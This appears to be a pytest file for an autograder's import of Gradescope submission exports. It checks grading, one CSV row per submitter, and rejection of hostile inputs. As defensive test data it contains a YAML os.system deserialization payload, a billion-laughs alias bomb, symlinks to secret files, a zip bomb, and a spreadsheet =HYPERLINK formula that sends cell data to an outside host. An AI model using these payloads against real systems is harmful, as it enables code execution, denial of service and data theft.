"""Is Gradescope's "Download all submissions" export graded as it is: every submission folder
once, its submitters' names, emails and ids in grades.csv (a row each for a group), and its
Ruby-flavoured metadata read safely?"""

import csv
import json
import subprocess
import sys

import pytest

from autograder.instructor import fixtures, grade_all, gradescope_export
from autograder.runtime.variant_grading import OTHER_VARIANT

NAME = "matrix-backprop"

# As Gradescope writes it: Ruby symbols for keys, a Ruby-tagged score, a group of two, a
# timestamp with nanoseconds, and a submission with no submitters listed.
METADATA = """\
submission_101:
  :submitters:
  - :name: Ada Lovelace
    :sid: '1815'
    :email: ada@example.edu
  :created_at: 2026-12-01 10:22:11.123456000 -08:00
  :score: !ruby/object:BigDecimal 18:0.21e2
  :history: []
submission_102:
  :submitters:
  - :name: Pair One
    :sid: '200'
    :email: one@example.edu
  - :name: Pair Two
    :sid: 201
    :email: two@example.edu
  :status: !ruby/hash:ActiveSupport::HashWithIndifferentAccess
    state: processed
submission_103:
  :submitters:
  - :name: "Zoë <b>Ü</b>"
    :email: z@example.edu
submission_104:
  :submitters:
  - :name: Corrupt Notebook
    :email: c@example.edu
submission_105:
  :submitters: []
"""


def write_export(folder, notebooks):
    """An export folder: submission_<id>/<NAME>.ipynb for each {id: bytes} and the metadata."""
    folder.mkdir()
    for sid, data in notebooks.items():
        (folder / f"submission_{sid}").mkdir()
        (folder / f"submission_{sid}" / f"{NAME}.ipynb").write_bytes(data)
    (folder / gradescope_export.METADATA).write_text(METADATA, encoding="utf-8")
    return folder


def test_metadata_with_ruby_symbols_and_tags_is_read_as_plain_data(tmp_path):
    """Are :symbol keys plain names, Ruby-tagged values their content, and a group's
    submitters all listed?"""
    path = tmp_path / gradescope_export.METADATA
    path.write_text(METADATA, encoding="utf-8")
    meta = gradescope_export.load_metadata(path)
    assert meta["submission_101"]["submitters"][0] == {
        "name": "Ada Lovelace", "sid": "1815", "email": "ada@example.edu"}
    assert meta["submission_101"]["score"] == "18:0.21e2"
    assert meta["submission_102"]["status"] == {"state": "processed"}
    people = gradescope_export.submitters_of(meta["submission_102"])
    assert [(p.name, p.sid) for p in people] == [("Pair One", "200"), ("Pair Two", "201")]


def test_metadata_never_constructs_python_objects(tmp_path):
    """Is a python/object tag refused (an error naming the file), never run?"""
    path = tmp_path / gradescope_export.METADATA
    marker = tmp_path / "ran"
    path.write_text(f"submission_1: !!python/object/apply:os.system ['touch {marker}']\n")
    with pytest.raises(gradescope_export.ExportError, match="not readable YAML"):
        gradescope_export.load_metadata(path)
    assert not marker.exists()


def test_export_is_detected_and_each_submitter_gets_a_row(tmp_path, monkeypatch, no_workers):
    """Given an export whose notebooks all have the same name, does grade_folder grade each
    submission folder once (no collision) and write one row per submitter, with name,
    email, sid and submission_id first?"""
    export = write_export(tmp_path / "export", {i: b"{}" for i in (101, 102, 103, 104, 105)})
    (export / "stray.txt").write_text("not part of the export")
    graded = []

    def fake_run(zip_path, submission, work, **_):
        graded.append(submission.name)
        assert (submission / f"{NAME}.ipynb").is_file()
        score = 2.0 if submission.name == "submission_101" else 0.5000000001
        return {"tests": [{"name": "q1", "score": score, "max_score": 2}]}, ""

    monkeypatch.setattr(grade_all, "gradescope_run", fake_run)
    zip_path = tmp_path / "fake.zip"
    zip_path.write_bytes(b"zip")
    out = tmp_path / "out"
    grade_all.grade_folder(NAME, export, out, jobs=1, zip_path=zip_path, quiet=True)
    assert sorted(graded) == [f"submission_{i}" for i in (101, 102, 103, 104, 105)]
    assert sorted(p.name for p in (out / "results").iterdir()) == sorted(
        f"{s}.json" for s in graded)
    with open(out / "grades.csv", encoding="utf-8") as f:
        reader = csv.reader(f)
        header = next(reader)
        rows = [dict(zip(header, r, strict=True)) for r in reader]
    assert header[:4] == ["name", "email", "sid", "submission_id"]
    assert [(r["name"], r["sid"], r["submission_id"], r["total"]) for r in rows] == [
        ("Ada Lovelace", "1815", "101", "2"), ("Pair One", "200", "102", "0.5"),
        ("Pair Two", "201", "102", "0.5"), ("Zoë <b>Ü</b>", "", "103", "0.5"),
        ("Corrupt Notebook", "", "104", "0.5"), ("", "", "105", "0.5")]
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "Zoë &lt;b&gt;Ü&lt;/b&gt;" in page and "<b>Ü" not in page
    assert 'href="feedback/submission_102.html"' in page
    assert "Pair One" in (out / "feedback" / "submission_102.html").read_text()


def test_a_plain_folder_is_not_an_export(tmp_path):
    """Is a folder without submission_metadata.yml graded file by file, as before?"""
    (tmp_path / "submission_1").mkdir()
    assert not gradescope_export.is_export(tmp_path)
    entries = grade_all.submission_entries(tmp_path)
    assert entries == {tmp_path / "submission_1": {}}


def with_email(spec, email):
    """A fixture's spec with the notebook's student_email set to ``email``."""
    edit = {"find": 'student_email = "handout"', "replace": f'student_email = "{email}"'}
    return {**spec, "edits": [*spec.get("edits", []), edit]}


def graded_export(folder, built, environ):
    """A Gradescope export of right, wrong, grouped, borrowed and corrupt submissions,
    graded through the real zip: the output folder. Ada's numbers are right for Ada (101),
    the pair's wrong step is worked on one member's numbers (102), and Zoë submits Ada's
    notebook (103)."""
    paths = built(NAME)
    catalogue = fixtures.load_catalogue(NAME)
    build = folder / "build"
    build.mkdir()
    ada = fixtures.build_submission(with_email(catalogue["solution"], "ada@example.edu"),
                                    paths, build / "a.ipynb")
    wrong = fixtures.build_submission(
        with_email(catalogue["q1c-missing-factor-2"], "two@example.edu"), paths,
        build / "b.ipynb")
    export = write_export(folder / "export", {
        101: ada.read_bytes(), 102: wrong.read_bytes(), 103: ada.read_bytes(),
        104: b'{"cells": [', 105: b"\x00\xff garbage"})
    # in a new Python: a test beside this may replace grade_all's functions in this one
    proc = subprocess.run([sys.executable, "-m", "autograder.instructor.cli", "grade", NAME,
                           str(export), "-o", str(folder / "out"), "--jobs", "2"],
                          env=environ, capture_output=True, text=True, timeout=900)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return folder / "out"


@pytest.mark.slow
@pytest.mark.started_early(work=graded_export)
def test_a_real_export_is_graded_with_its_submitters(started_early):
    """Through the real zip: does each submission folder get its own score (same notebook
    name everywhere) against its submitters' numbers, the group both rows, and the corrupt
    notebook an error row?"""
    out = started_early
    catalogue = fixtures.load_catalogue(NAME)
    with open(out / "grades.csv", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    by_sid = {(r["submission_id"], r["name"]): r for r in rows}
    from autograder.instructor.coverage import full_marks
    full = sum(full_marks(NAME).values())
    assert by_sid[("101", "Ada Lovelace")]["total"] == grade_all.points(full)
    lost = full_marks(NAME)["q1c"] - catalogue["q1c-missing-factor-2"]["expect"]["scores"]["q1c"]
    assert by_sid[("102", "Pair One")]["total"] == grade_all.points(full - lost)
    assert by_sid[("102", "Pair Two")]["total"] == grade_all.points(full - lost)
    # Ada's notebook submitted by Zoë: the variant questions' points are lost, and said so
    borrowed = catalogue["another-students-numbers"]["expect"]["scores"]
    lost = sum(full_marks(NAME)[q] - points for q, points in borrowed.items())
    assert by_sid[("103", "Zoë <b>Ü</b>")]["total"] == grade_all.points(full - lost)
    record = json.loads((out / "results" / "submission_103.json").read_text())
    assert set(record["results"]["extra_data"]["mistakes"]["q1c"]) == {OTHER_VARIANT}
    assert "student_email asks for the numbers of ada@example.edu" in record["results"]["output"]
    # grades.csv says whose numbers were graded, from Gradescope's metadata
    variants = {sid: (r["variant"], r["variant_from"]) for (sid, _), r in by_sid.items()}
    assert variants["101"] == ("ada@example.edu", "gradescope")
    assert variants["102"] == ("one@example.edu; two@example.edu", "gradescope")
    assert variants["103"] == ("z@example.edu", "gradescope")
    assert by_sid[("103", "Zoë <b>Ü</b>")]["notebook_email"] == "ada@example.edu"
    for sid, name in (("104", "Corrupt Notebook"), ("105", "")):
        row = by_sid[(sid, name)]
        assert (row["status"], row["total"]) == ("error", "0")
        assert "is not a Jupyter notebook that can be read" in row["reason"]
    record = json.loads((out / "results" / "submission_102.json").read_text())
    failed = record["results"]["extra_data"]["failed"]["q1c"]
    assert set(failed.values()) == {"the factor 2 of the squared loss is missing"}


# Hostile metadata and export folders: each is a clear ExportError or an error row, never a
# crash, a hang, a link followed by root, or an entry left without a row.

LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{b}: &{b} [{', '.join([f'*{a}'] * 10)}]\n"
    for a, b in zip("abcdefgh", "bcdefghi", strict=True)) + """\
submission_1:
  :submitters:
  - :name: *i
    :email: *h
    :sid: '7'
"""


def test_metadata_aliases_are_never_expanded(tmp_path):
    """A billion-laughs metadata (aliases of aliases: 10^9 leaves from 1 kB): is each alias
    kept as one shared value (never copied out), and a name that is not text left empty
    instead of printed?"""
    path = tmp_path / gradescope_export.METADATA
    path.write_text(LAUGHS)
    meta = gradescope_export.load_metadata(path)
    assert meta["i"][0] is meta["i"][1] is meta["h"]  # shared, as the YAML says: not copied
    people = gradescope_export.submitters_of(meta["submission_1"])
    assert [(p.name, p.email, p.sid) for p in people] == [("", "", "7")]


@pytest.mark.parametrize("text", [
    "submission_1: &a [*a]\n",                       # a list holding itself
    "submission_1: &a {\":submitters\": [*a]}\n",        # a submitter that is its own mapping
    "submission_1: " + "[" * 20000 + "]" * 20000 + "\n",  # nested past the parser's stack
])
def test_recursive_or_deep_metadata_is_an_export_error(tmp_path, text):
    """Self-referencing or absurdly deep metadata: an ExportError naming the file (or
    submitters read as nobody), never a RecursionError out of `backprop grade`?"""
    path = tmp_path / gradescope_export.METADATA
    path.write_text(text)
    try:
        meta = gradescope_export.load_metadata(path)
    except gradescope_export.ExportError as e:
        assert gradescope_export.METADATA in str(e)
        return
    people = gradescope_export.submitters_of(meta["submission_1"])
    assert all((p.name, p.email, p.sid) == ("", "", "") for p in people)


def test_duplicate_submissions_in_the_metadata_are_an_export_error(tmp_path):
    """The same submission listed twice (which set of submitters would get its points?):
    refused, naming the key, not silently the last one?"""
    path = tmp_path / gradescope_export.METADATA
    path.write_text("submission_1:\n  :submitters: [{name: A}]\n"
                    "submission_1:\n  :submitters: [{name: B}]\n")
    with pytest.raises(gradescope_export.ExportError, match="submission_1"):
        gradescope_export.load_metadata(path)


def test_metadata_that_is_a_link_or_huge_is_refused_unread(tmp_path):
    """Is a metadata file that is a symbolic link refused without being followed (root never
    reads where it points), and one over the size limit refused without being read?"""
    secret = tmp_path / "secret"
    secret.write_text("submission_1: {submitters: [{name: SECRET}]}\n")
    export = tmp_path / "export"
    export.mkdir()
    (export / gradescope_export.METADATA).symlink_to(secret)
    assert gradescope_export.is_export(export)  # an export, whose metadata is refused
    with pytest.raises(gradescope_export.ExportError, match="link") as caught:
        gradescope_export.read_export(export)
    assert "SECRET" not in str(caught.value)
    huge = tmp_path / "huge" / gradescope_export.METADATA
    huge.parent.mkdir()
    with open(huge, "wb") as f:  # sparse: costs no disk
        f.truncate(gradescope_export.MAX_METADATA + 1)
    with pytest.raises(gradescope_export.ExportError, match="too large"):
        gradescope_export.load_metadata(huge)


def test_every_entry_of_an_export_gets_a_row(tmp_path, monkeypatch, no_workers):
    """A submission_<id> that is a link (to a folder root can read) or a plain file: does it
    get an error row naming why, without being graded, instead of vanishing from
    grades.csv?"""
    export = write_export(tmp_path / "export", {101: b"{}"})
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / f"{NAME}.ipynb").write_bytes(b"{}")
    (export / "submission_102").symlink_to(elsewhere)
    (export / "submission_104").write_bytes(b"{}")
    graded = []

    def fake_run(zip_path, submission, work, **_):
        graded.append(submission.name)
        return {"tests": [{"name": "q1", "score": 2.0, "max_score": 2}]}, ""

    monkeypatch.setattr(grade_all, "gradescope_run", fake_run)
    zip_path = tmp_path / "fake.zip"
    zip_path.write_bytes(b"zip")
    out = tmp_path / "out"
    records = grade_all.grade_folder(NAME, export, out, jobs=1, zip_path=zip_path, quiet=True)
    assert graded == ["submission_101"]
    status = {r["file"]: (r["status"], r["reason"]) for r in records}
    assert status["submission_101"][0] == "graded"
    assert status["submission_102"] == ("error", "a symbolic link (links are not followed)")
    assert status["submission_104"] == ("error", "not a submission folder")
    assert json.loads((out / "results" / "submission_104.json").read_text())["submitters"] \
        == [{"name": "Corrupt Notebook", "email": "c@example.edu", "sid": ""}]


def test_submitter_text_never_becomes_a_spreadsheet_formula(tmp_path, monkeypatch, no_workers):
    """A name a student chose on Gradescope, like =HYPERLINK(...): is it written to
    grades.csv as text a spreadsheet shows (a leading '), never as a formula it runs, while
    plain names, emails and numbers stay as they are?"""
    export = write_export(tmp_path / "export", {101: b"{}", 102: b"{}"})
    (export / gradescope_export.METADATA).write_text(
        "submission_101:\n  :submitters:\n"
        "  - {':name': '=HYPERLINK(\"http://x.example/?\"&C2,\"x\")', ':sid': '+1',"
        " ':email': '@SUM(1)'}\n"
        "submission_102:\n  :submitters:\n  - {':name': Ada, ':sid': '-7',"
        " ':email': a@example.edu}\n")
    monkeypatch.setattr(grade_all, "gradescope_run", lambda *a, **k: (
        {"tests": [{"name": "q1", "score": 1.0, "max_score": 2}]}, ""))
    zip_path = tmp_path / "fake.zip"
    zip_path.write_bytes(b"zip")
    out = tmp_path / "out"
    grade_all.grade_folder(NAME, export, out, jobs=1, zip_path=zip_path, quiet=True)
    with open(out / "grades.csv", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [(r["name"], r["sid"], r["email"], r["total"]) for r in rows] == [
        ("'=HYPERLINK(\"http://x.example/?\"&C2,\"x\")", "'+1", "'@SUM(1)", "1"),
        ("Ada", "'-7", "a@example.edu", "1")]


FAKE_RUN_OTTER = '''
import json, os
ag = os.environ["BACKPROP_AUTOGRADER_DIR"]
sub = os.path.join(ag, "submission")
seen = {n: ("link" if os.path.islink(os.path.join(sub, n)) else "file")
        for n in sorted(os.listdir(sub))}
with open(os.path.join(ag, "results", "results.json"), "w") as f:
    json.dump({"tests": [], "output": json.dumps(seen)}, f)
'''


def test_links_and_fifos_in_a_submission_folder_are_never_followed_or_read(tmp_path):
    """A submission folder holding a link to a file root can read and a FIFO: is the link
    copied as a link (its target never read), and the FIFO an error row, never a hang?"""
    import os
    import zipfile
    zip_path = tmp_path / "fake.zip"
    with zipfile.ZipFile(zip_path, "w") as zf:
        zf.writestr("run_otter.py", FAKE_RUN_OTTER)
    secret = tmp_path / "secret.ipynb"
    secret.write_text("SECRET")
    export = write_export(tmp_path / "export", {1: b"{}", 2: b"{}"})
    (export / "submission_1" / "other.ipynb").symlink_to(secret)
    os.mkfifo(export / "submission_2" / "pipe.ipynb")
    out = tmp_path / "out"
    (out / "results").mkdir(parents=True)
    info = {"submission_id": "1", "submitters": []}
    linked = grade_all.grade_one(zip_path, export / "submission_1", out, info)
    assert json.loads(linked["results"]["output"]) == {f"{NAME}.ipynb": "file",
                                                       "other.ipynb": "link"}
    piped = grade_all.grade_one(zip_path, export / "submission_2", out,
                                {**info, "submission_id": "2"})
    assert (piped["status"], piped["reason"]) == (
        "error", "it holds 'pipe.ipynb', which is not a file, a folder or a link")
    assert not any(out.glob(".grading-*"))  # the work folder is gone either way


def test_an_uploaded_zip_bomb_is_an_error_row_never_unpacked(tmp_path, monkeypatch):
    """An uploaded zip that unpacks to more than MAX_UNZIPPED (a zip bomb, unpacked by root
    outside any sandbox): an error row saying so, with nothing written?"""
    import zipfile
    monkeypatch.setattr(grade_all, "MAX_UNZIPPED", 10_000)
    bomb = tmp_path / "in" / "bomb.zip"
    bomb.parent.mkdir()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(f"{NAME}.ipynb", b"{}")
        zf.writestr("zeros", b"\0" * 20_000)
    assert bomb.stat().st_size < 1_000
    zip_path = tmp_path / "fake.zip"
    with zipfile.ZipFile(zip_path, "w") as zf:
        zf.writestr("run_otter.py", FAKE_RUN_OTTER)
    out = tmp_path / "out"
    (out / "results").mkdir(parents=True)
    record = grade_all.grade_one(zip_path, bomb, out)
    assert (record["status"], record["reason"]) == (
        "error", "the zip holds 20002 bytes unpacked, over 10000")
    monkeypatch.setattr(grade_all, "MAX_UNZIPPED", 30_000)  # the same zip under the limit
    assert grade_all.grade_one(zip_path, bomb, out)["status"] == "graded"
